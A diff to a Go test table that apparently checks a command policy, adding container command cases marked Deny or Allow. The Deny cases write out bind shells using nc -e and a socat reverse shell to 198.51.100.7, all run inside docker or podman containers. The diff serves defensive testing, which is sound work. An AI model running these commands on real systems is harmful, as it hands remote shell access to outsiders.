@@ -53,6 +53,12 @@ var classTests22C = []classTest{
 	{"container-host-secret", "docker compose run --rm web pytest -v tests/unit", Allow},
 	{"container-host-secret", "docker compose run --rm -v ./fixtures:/fx web ls /fx", Allow},
 	{"container-host-secret", "docker compose up -d db", Allow},
+	// A container whose command hands a shell to the network.
+	{"container-network-shell", "docker run -d --network host alpine sh -c 'while :; do nc -l -p 7000 -e /bin/ash; done'", Deny},
+	{"container-network-shell", "podman run -d -p 5555:5555 busybox nc -ll -p 5555 -e /bin/sh", Deny},
+	{"container-network-shell", "docker run --rm -it alpine sh -c 'apk add socat && socat tcp:198.51.100.7:443 exec:sh'", Deny},
+	{"container-network-shell", "docker run --rm alpine sh -c 'until nc -z postgres 5432; do sleep 1; done'", Allow},
+	{"container-network-shell", "docker run --rm -e NODE_ENV=test -p 3000:3000 web npm start", Allow},
 }
 
 func TestClasses22C(t *testing.T) { checkClasses(t, classTests22C) }
